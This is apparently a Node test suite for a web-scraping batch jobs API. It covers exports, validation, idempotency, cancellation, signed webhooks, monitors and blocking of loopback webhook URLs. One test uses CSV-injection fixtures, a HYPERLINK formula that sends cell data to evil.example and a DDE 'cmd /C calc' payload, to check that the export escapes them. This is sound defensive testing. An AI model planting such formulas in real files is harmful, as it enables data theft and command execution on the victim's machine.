// Batch jobs API (docs/jobs.md): a job over local fixture pages, results paged and exported, validation up
// front, ownership, idempotency, cancellation, and Standard Webhooks deliveries checked with an independent
// implementation (the standardwebhooks package).
import { after, before, test } from 'node:test'
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import { Webhook } from 'standardwebhooks'
import { startService, postJson, getJson, type Running } from '../helpers/start-service.ts'
import { stubNet, startHttp, PUBLIC_A, PUBLIC_B, type Fixture } from '../helpers/net-stub.ts'
import { startPages, waitForJob, allResults } from './helpers.ts'

let svc: Running
let pages: Awaited<ReturnType<typeof startPages>>
let hooks: Fixture
let key: Record<string, string>
let other: Record<string, string>
/** Deliveries the receiver got: headers and raw body. */
const received: { id: string; ts: string; sig: string; body: string; answered: number; ua: string; event: string }[] = []
/** WEBINTEL_FETCH_USER_AGENT of this suite's server: every outbound request carries it, webhook deliveries too. */
const UA = 'webintel-jobs-test/1 (+https://ops.example.org)'
/** webhook-ids the receiver fails (answers 500) this many more times. */
const failFirst = new Map<string, number>()
let failNextNew = 0

before(async () => {
  pages = await startPages({ slowMs: 300 })
  hooks = await startHttp((req, res) => {
    let body = ''
    req.on('data', (c) => { body += c })
    req.on('end', () => {
      const id = String(req.headers['webhook-id'])
      if (!failFirst.has(id) && failNextNew > 0) { failFirst.set(id, failNextNew); failNextNew = 0 }
      const left = failFirst.get(id) ?? 0
      const answered = left > 0 ? 500 : 204
      if (left > 0) failFirst.set(id, left - 1)
      received.push({ id, ts: String(req.headers['webhook-timestamp']), sig: String(req.headers['webhook-signature']), body, answered, ua: String(req.headers['user-agent']), event: String(req.headers['webintel-event']) })
      res.writeHead(answered); res.end()
    })
  })
  const net = stubNet({ 'shop.example.com': [[PUBLIC_A]], 'hooks.example.com': [[PUBLIC_B]] }, { [PUBLIC_A]: pages.port, [PUBLIC_B]: hooks.port })
  svc = await startService({ WEBINTEL_JOBS_MAX_ITEMS: '400', WEBINTEL_WEBHOOK_RETRY_BASE_MS: '100', WEBINTEL_JOBS_POLL_MS: '50', WEBINTEL_FETCH_CACHE_TTL_MS: '0', WEBINTEL_MONITOR_MIN_INTERVAL_MS: '1000', WEBINTEL_FETCH_USER_AGENT: UA }, { net })
  svc.services.batch.start()
  key = { 'x-api-key': (await svc.newKey({ rateLimitPerMinute: 100_000 })).apiKey }
  other = { 'x-api-key': (await svc.newKey({ rateLimitPerMinute: 100_000 })).apiKey }
})
after(async () => { await svc?.close(); await pages?.close(); await hooks?.close() })

test('a scrape_metadata job runs every item once; paged JSON, JSONL and CSV hold the same items', async () => {
  const items = Array.from({ length: 40 }, (_, i) => (i === 7 ? { url: 'http://shop.example.com/missing', fields: ['title'] } : { url: `http://shop.example.com/p/${i}`, fields: ['title', 'description', 'emails'] }))
  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items }, key)
  assert.equal(r.status, 202, r.text)
  assert.equal(r.json.data.total, 40)
  assert.match(r.json.data.id, /^job_/)
  const id = r.json.data.id
  const done = await waitForJob(svc.url, id, key)
  assert.equal(done.status, 'completed')
  assert.deepEqual({ ...done.counts }, { done: 40, succeeded: 39, failed: 1, cancelled: 0, pending: 0, running: 0 })
  assert.equal(done.progress, 1)
  assert.ok(done.rate_per_second > 0)
  assert.equal(done.eta_seconds, 0)

  const json = await allResults(svc.url, id, key, 15)
  assert.deepEqual(json.map((x) => x.index), Array.from({ length: 40 }, (_, i) => i))
  assert.equal(json[3].status, 'ok')
  assert.equal(json[3].result.title, 'Page 3')
  assert.equal(json[3].result.description, 'Description of page 3')
  assert.equal(json[7].status, 'error')
  assert.equal(json[7].error.code, 'fetch_failed')
  for (let i = 0; i < 40; i++) if (i !== 7) assert.equal(pages.hits.get(`/p/${i}`), 1, `page ${i} fetched once`)

  const jl = await fetch(`${svc.url}/v1/jobs/${id}/results?format=jsonl`, { headers: key })
  assert.match(jl.headers.get('content-type') ?? '', /application\/x-ndjson/)
  const lines = (await jl.text()).trim().split('\n').map((l) => JSON.parse(l))
  assert.deepEqual(lines, json)

  const csv = await fetch(`${svc.url}/v1/jobs/${id}/results?format=csv`, { headers: key })
  assert.match(csv.headers.get('content-type') ?? '', /text\/csv/)
  const rows = parse(await csv.text(), { columns: true }) as Record<string, string>[]
  assert.equal(rows.length, 40)
  assert.deepEqual(Object.keys(rows[0]).slice(0, 8), ['index', 'status', 'error_code', 'error_message', 'url', 'title', 'description', 'emails'])
  for (const [i, row] of rows.entries()) {
    assert.equal(Number(row.index), json[i].index)
    assert.equal(row.status, json[i].status)
    assert.equal(row.url, json[i].input.url)
    if (json[i].status === 'ok') { assert.deepEqual(JSON.parse(row.result_json), json[i].result); assert.equal(row.title, json[i].result.title) } else assert.equal(row.error_code, json[i].error.code)
  }
})

// Tried as an attacker would: a page title "=HYPERLINK(…)" went into the CSV export as is, and a spreadsheet
// opening the export runs it as a formula (OWASP CSV injection).
test('the CSV export neutralises cells that a spreadsheet would run as formulas; result_json stays exact', async () => {
  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: [{ url: 'http://shop.example.com/formula', fields: ['title', 'description'] }, { url: 'http://shop.example.com/p/1', fields: ['title', 'description'] }] }, key)
  assert.equal(r.status, 202, r.text)
  await waitForJob(svc.url, r.json.data.id, key)
  const csv = await (await fetch(`${svc.url}/v1/jobs/${r.json.data.id}/results?format=csv`, { headers: key })).text()
  const rows = parse(csv, { columns: true }) as Record<string, string>[]
  assert.equal(rows[0].title, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`)
  assert.equal(rows[0].description, `'@SUM(1+1)*cmd|' /C calc'!A0`)
  assert.equal(JSON.parse(rows[0].result_json).title, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
  assert.equal(rows[1].title, 'Page 1')
  for (const row of rows) for (const [k, v] of Object.entries(row)) if (k !== 'result_json') assert.doesNotMatch(v, /^[=+\-@\t\r]/, k)
})

test('bad items refuse the whole job, naming each bad index; limits and unknown operations too', async () => {
  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/1', 'ftp://x.example/', { fields: ['title'] }, 'http://shop.example.com/p/2', 42] }, key)
  assert.equal(r.status, 400, r.text)
  assert.equal(r.json.success, false)
  assert.equal(r.json.error.code, 'invalid_request')
  assert.deepEqual(r.json.error.details.fields.map((f: any) => f.index), [1, 2, 4])
  assert.equal(r.json.error.details.invalid_items, 3)
  // Tried as a user would: items' problems read "Expected required property" while the same mistake in a
  // synchronous call reads "body.url is required". The same sentences, the field under items.N.
  assert.deepEqual(r.json.error.details.fields.slice(1).map((f: any) => [f.field, f.problem]), [['items.2.url', 'is required'], ['items.4', 'must be an object']])
  // The URL check names the item's field, as the synchronous call names body.url (it read items.1)
  assert.deepEqual([r.json.error.details.fields[0].field, r.json.error.details.fields[0].problem], ['items.1.url', 'only http and https URLs are accepted'])
  assert.equal(r.json.error.message, '3 of 5 items are invalid; the job was not created (first: items.1.url: only http and https URLs are accepted)')
  const fieldsOf = async (operation: string, items: unknown[]) => (await postJson(`${svc.url}/v1/jobs`, { operation, items }, key)).json.error.details.fields.map((f: any) => [f.field, f.problem])
  assert.deepEqual(await fieldsOf('analyze', ['shop.example.com', 'mailto:x@example.com']), [['items.1.input_string', 'only http and https URLs are accepted']])
  assert.deepEqual(await fieldsOf('whois_lookup', [{ domain: '192.0.2.1' }]), [['items.0.domain', 'an IP address is not a domain']])
  assert.deepEqual(await fieldsOf('sanctions_check', ['Jane Doe', { query: '!!!' }]), [['items.1.query', 'has no letters or digits to screen']])
  assert.deepEqual(await fieldsOf('site_check', ['gopher://shop.example.com/']), [['items.0.url', 'only http and https URLs are accepted']])
  assert.deepEqual(await fieldsOf('similarity_score', [{ source: 'http://shop.example.com/', target: 'ftp://shop.example.com/' }]), [['items.0.target', 'only http and https URLs are accepted']])
  const shapes = await postJson(`${svc.url}/v1/jobs`, { operation: 'similarity_score', items: [{ source: 'a', target: 'b', type: 'html' }, { source: '', target: 'b', type: 'text' }] }, key)
  assert.deepEqual(shapes.json.error.details.fields.map((f: any) => [f.field, f.problem]), [['items.0.type', 'must be one of: url, text'], ['items.1.source', 'must not be empty']])
  // the lengths the synchronous call refuses are refused at submission too, not item by item when the job runs
  const long = await postJson(`${svc.url}/v1/jobs`, { operation: 'similarity_score', items: [{ source: `http://shop.example.com/${'a'.repeat(3000)}`, target: 'http://shop.example.com/' }, { source: 'x'.repeat(100_001), target: 'y', type: 'text' }, { source: 'a b', target: 'c d', type: 'text' }] }, key)
  assert.equal(long.status, 400, long.text)
  assert.deepEqual(long.json.error.details.fields.map((f: any) => [f.field, f.problem]), [['items.0.source', 'must be a URL of at most 2048 characters when type is "url"'], ['items.1.source', 'is longer than 100000 characters']])
  const many = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: Array.from({ length: 401 }, (_, i) => `http://shop.example.com/p/${i}`) }, key)
  assert.equal(many.status, 400)
  assert.match(many.json.error.message, /at most 400/)
  const op = await postJson(`${svc.url}/v1/jobs`, { operation: 'mine_bitcoin', items: ['x'] }, key)
  assert.equal(op.status, 400)
  assert.equal(op.json.error.details.fields[0].field, 'body.operation')
  const empty = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: [] }, key)
  assert.equal(empty.status, 400)
  const hook = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/1'], webhook: { url: 'http://127.0.0.1:9/hook' } }, key)
  assert.equal(hook.status, 422, 'webhook URLs pass the address guard')
  assert.equal(hook.json.error.code, 'fetch_blocked')
  // A URL the caller wrote wrong (another scheme, credentials, no URL at all) is the request's mistake: 400 naming
  // body.webhook.url, as the synchronous calls answer for their url (an ftp:// webhook was 422 fetch_blocked).
  for (const url of ['ftp://hooks.example.com/hook', 'https://user:pw@hooks.example.com/hook', 'hooks.example.com/hook', 'https://exa mple.com/']) {
    const bad = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/1'], webhook: { url } }, key)
    assert.equal(bad.status, 400, `${url}: ${bad.text}`)
    assert.equal(bad.json.error.code, 'invalid_request')
    assert.equal(bad.json.error.details.fields[0].field, 'body.webhook.url', url)
  }
  const noKey = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/1'] })
  assert.equal(noKey.status, 401)
  // a page size out of range names the range (it read "must match pattern")
  const big = await getJson(`${svc.url}/v1/jobs?limit=1000`, key)
  assert.equal(big.status, 400)
  // worded like every other 400: "Invalid request: <field> <problem>" (docs/errors.md)
  assert.equal(big.json.error.message, 'Invalid request: query.limit must be between 1 and 100')
})

test('Idempotency-Key returns the same job; reused with another body it is refused; other accounts get 404', async () => {
  const body = { operation: 'whois_lookup', items: ['example.com'] }
  const a = await postJson(`${svc.url}/v1/jobs`, body, { ...key, 'idempotency-key': 'k-1' })
  const b = await postJson(`${svc.url}/v1/jobs`, body, { ...key, 'idempotency-key': 'k-1' })
  assert.equal(a.status, 202)
  assert.equal(b.status, 202)
  assert.equal(b.json.data.id, a.json.data.id)
  assert.equal(b.headers.get('idempotent-replayed'), 'true')
  const c = await postJson(`${svc.url}/v1/jobs`, { ...body, items: ['example.org'] }, { ...key, 'idempotency-key': 'k-1' })
  assert.equal(c.status, 400)
  const d = await postJson(`${svc.url}/v1/jobs`, body, { ...other, 'idempotency-key': 'k-1' })
  assert.notEqual(d.json.data.id, a.json.data.id, 'keys are per account')
  for (const path of ['', '/results', '/results?format=csv', '/deliveries']) {
    const r = await getJson(`${svc.url}/v1/jobs/${a.json.data.id}${path}`, other)
    assert.equal(r.status, 404, path)
    assert.equal(r.json.error.code, 'not_found')
  }
  const del = await fetch(`${svc.url}/v1/jobs/${a.json.data.id}`, { method: 'DELETE', headers: other })
  assert.equal(del.status, 404)
  const whois = await waitForJob(svc.url, a.json.data.id, key)
  assert.equal(whois.status, 'failed', 'every item failed (no registry reachable in tests)')
})

test('DELETE cancels: items in flight finish, the rest are cancelled', async () => {
  const items = Array.from({ length: 120 }, (_, i) => `http://shop.example.com/slow/${i}`)
  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items }, key)
  const id = r.json.data.id
  for (let i = 0; i < 100; i++) { const s = await getJson(`${svc.url}/v1/jobs/${id}`, key); if (s.json.data.counts.done > 0) break; await new Promise((res) => setTimeout(res, 50)) }
  const del = await fetch(`${svc.url}/v1/jobs/${id}`, { method: 'DELETE', headers: key })
  assert.equal(del.status, 200)
  const body = await del.json() as any
  assert.equal(body.data.status, 'cancelled')
  // Items in flight finish (polled: a loaded machine may take a while), and nothing else starts.
  let s = (await getJson(`${svc.url}/v1/jobs/${id}`, key)).json.data
  for (let i = 0; i < 200 && s.counts.running > 0; i++) { await new Promise((res) => setTimeout(res, 50)); s = (await getJson(`${svc.url}/v1/jobs/${id}`, key)).json.data }
  assert.equal(s.status, 'cancelled')
  assert.equal(s.counts.running, 0)
  assert.ok(s.counts.cancelled > 0 && s.counts.done > 0, JSON.stringify(s.counts))
  assert.equal(s.counts.done + s.counts.cancelled, 120)
  const res = await allResults(svc.url, id, key, 200)
  assert.equal(res.length, 120)
  assert.ok(res.filter((x) => x.status === 'cancelled').every((x) => x.result === undefined))
})

test('webhooks: signed per Standard Webhooks; a receiver failing twice gets the same webhook-id three times', async () => {
  const rot = await postJson(`${svc.url}/v1/webhooks/secret`, {}, key)
  assert.equal(rot.status, 200, rot.text)
  const secret: string = rot.json.data.secret
  assert.match(secret, /^whsec_[A-Za-z0-9+/]+=*$/)
  const state = await getJson(`${svc.url}/v1/webhooks/secret`, key)
  assert.deepEqual(Object.keys(state.json.data).sort(), ['configured', 'created_at'])
  assert.equal(state.json.data.configured, true)

  received.length = 0
  failNextNew = 2 // the first message the receiver sees fails twice
  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/1', 'http://shop.example.com/p/2'], webhook: { url: 'http://hooks.example.com/in', events: ['job.started', 'job.completed', 'item.completed'] } }, key)
  assert.equal(r.status, 202)
  assert.equal(r.json.data.webhook_secret, undefined, 'the secret existed: not shown again')
  const id = r.json.data.id
  await waitForJob(svc.url, id, key)
  // 4 messages (started, 2 × item.completed, completed); the first one fails twice and is retried.
  for (let i = 0; i < 100 && received.filter((x) => x.answered === 204).length < 4; i++) await new Promise((res) => setTimeout(res, 100))
  const wh = new Webhook(secret)
  for (const d of received) {
    const payload = wh.verify(d.body, { 'webhook-id': d.id, 'webhook-timestamp': d.ts, 'webhook-signature': d.sig }) as any
    assert.ok(['job.started', 'job.completed', 'item.completed'].includes(payload.type))
    assert.equal(d.ua, UA, 'the configured User-Agent')
    assert.equal(d.event, payload.type, 'webintel-event names the signed type')
    assert.equal(typeof payload.timestamp, 'string')
    assert.ok(payload.data)
  }
  const first = received[0].id
  assert.deepEqual(received.filter((x) => x.id === first).map((x) => x.answered), [500, 500, 204])
  const bodies = new Set(received.filter((x) => x.id === first).map((x) => x.body))
  assert.equal(bodies.size, 1, 'the same body on every attempt')
  const types = new Map(received.filter((x) => x.answered === 204).map((x) => [x.id, JSON.parse(x.body).type]))
  assert.deepEqual([...types.values()].sort(), ['item.completed', 'item.completed', 'job.completed', 'job.started'])
  const completed = received.find((x) => JSON.parse(x.body).type === 'job.completed')!
  assert.deepEqual(JSON.parse(completed.body).data.counts, { succeeded: 2, failed: 0, cancelled: 0, pending: 0 })

  const log = await getJson(`${svc.url}/v1/jobs/${id}/deliveries`, key)
  const firstLog = log.json.data.deliveries.find((d: any) => d.id === first)
  assert.equal(firstLog.status, 'delivered')
  assert.equal(firstLog.attempts, 3)
  assert.deepEqual(firstLog.log.map((a: any) => a.status_code), [500, 500, 204])
  const status = await getJson(`${svc.url}/v1/jobs/${id}`, key)
  assert.deepEqual(status.json.data.webhook.deliveries, { delivered: 4 })

  // A wrong secret does not verify (the check can fail).
  assert.throws(() => new Webhook('whsec_' + Buffer.alloc(32, 1).toString('base64')).verify(completed.body, { 'webhook-id': completed.id, 'webhook-timestamp': completed.ts, 'webhook-signature': completed.sig }))
})

// Tried as a user would: an account whose first webhook was a monitor's (its job had none) got monitor.changed
// messages without a webhook-signature header: nothing to verify them with. A monitor with a webhook now makes sure
// of the account's secret (returned once, as for jobs), and no message is ever sent unsigned.
test('a monitor webhook on an account without a secret creates one (shown once); monitor.changed is signed with it', async () => {
  const fresh = { 'x-api-key': (await svc.newKey({ rateLimitPerMinute: 100_000 })).apiKey }
  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/301'] }, fresh)
  const jobId = r.json.data.id
  assert.equal(r.json.data.webhook_secret, undefined)
  assert.equal((await waitForJob(svc.url, jobId, fresh)).counts.succeeded, 1)
  pages.down.add('/p/301')
  try {
    const m = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: '*/1 * * * * *', webhook: { url: 'http://hooks.example.com/monitor-fresh' } }, fresh)
    assert.equal(m.status, 201, m.text)
    const secret = m.json.data.webhook_secret as string
    assert.match(secret, /^whsec_/)
    let changed: typeof received[number] | undefined
    for (let i = 0; i < 150 && !changed; i++) {
      changed = received.find((x) => { const b = JSON.parse(x.body); return b.type === 'monitor.changed' && b.data.monitor_id === m.json.data.id })
      if (!changed) await new Promise((res) => setTimeout(res, 100))
    }
    assert.ok(changed, 'monitor.changed delivered')
    assert.match(changed.sig, /^v1,/)
    const payload = new Webhook(secret).verify(changed.body, { 'webhook-id': changed.id, 'webhook-timestamp': changed.ts, 'webhook-signature': changed.sig }) as any
    assert.equal(payload.data.items_changed, 1)
    const again = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: '0 6 1 * *', webhook: { url: 'http://hooks.example.com/monitor-fresh' } }, fresh)
    assert.equal(again.json.data.webhook_secret, undefined, 'shown once')
    for (const id of [m.json.data.id, again.json.data.id]) await fetch(`${svc.url}/v1/monitors/${id}`, { method: 'DELETE', headers: fresh })
  } finally { pages.down.delete('/p/301') }
})

test('monitors: a finished job re-run on a cron schedule; monitor.changed names the site that went from pass to fail', async () => {
  const secret = (await postJson(`${svc.url}/v1/webhooks/secret`, {}, key)).json.data.secret as string
  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/101', 'http://shop.example.com/p/102', 'http://shop.example.com/p/103'] }, key)
  const jobId = r.json.data.id
  assert.equal((await waitForJob(svc.url, jobId, key)).counts.succeeded, 3)

  const badCron = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: 'every tuesday' }, key)
  assert.equal(badCron.status, 400)
  assert.equal(badCron.json.error.details.fields[0].field, 'body.schedule')
  assert.equal(badCron.json.error.message, 'Invalid request: body.schedule is not a valid cron expression')
  const foreign = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: '*/1 * * * * *' }, other)
  assert.equal(foreign.status, 404)
  // a monitor's webhook URL passes the same two checks: syntax (400) and address (422)
  const ftpHook = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: '0 6 1 * *', webhook: { url: 'ftp://hooks.example.com/monitor' } }, key)
  assert.equal(ftpHook.status, 400, ftpHook.text)
  assert.equal(ftpHook.json.error.details.fields[0].field, 'body.webhook.url')
  const loopHook = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: '0 6 1 * *', webhook: { url: 'http://127.0.0.1:9/monitor' } }, key)
  assert.equal(loopHook.status, 422, loopHook.text)
  assert.equal(loopHook.json.error.code, 'fetch_blocked')

  pages.down.add('/p/102')
  received.length = 0
  const m = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: '*/1 * * * * *', webhook: { url: 'http://hooks.example.com/monitor' } }, key)
  assert.equal(m.status, 201, m.text)
  const monId = m.json.data.id
  assert.match(monId, /^mon_/)
  let changed: typeof received[number] | undefined
  for (let i = 0; i < 150 && !changed; i++) {
    changed = received.find((x) => JSON.parse(x.body).type === 'monitor.changed')
    if (!changed) await new Promise((res) => setTimeout(res, 100))
  }
  assert.ok(changed, 'monitor.changed delivered')
  const payload = new Webhook(secret).verify(changed.body, { 'webhook-id': changed.id, 'webhook-timestamp': changed.ts, 'webhook-signature': changed.sig }) as any
  assert.equal(payload.data.monitor_id, monId)
  assert.equal(payload.data.items_changed, 1)
  assert.deepEqual(payload.data.items, [{ index: 1, input: { url: 'http://shop.example.com/p/102' }, changes: [{ kind: 'site_check', before: 'pass', after: 'fail (fetch_failed)' }] }])

  const got = await getJson(`${svc.url}/v1/monitors/${monId}`, key)
  assert.equal(got.status, 200)
  assert.equal(got.json.data.job_id, jobId)
  assert.ok(got.json.data.last_run_job_id)
  assert.equal((await getJson(`${svc.url}/v1/monitors/${monId}`, other)).status, 404)
  const list = await getJson(`${svc.url}/v1/monitors`, key)
  assert.ok(list.json.data.monitors.some((x: any) => x.id === monId))
  const del = await fetch(`${svc.url}/v1/monitors/${monId}`, { method: 'DELETE', headers: key })
  assert.equal(del.status, 200)
  assert.equal((await getJson(`${svc.url}/v1/monitors/${monId}`, key)).status, 404)
  pages.down.delete('/p/102')
})
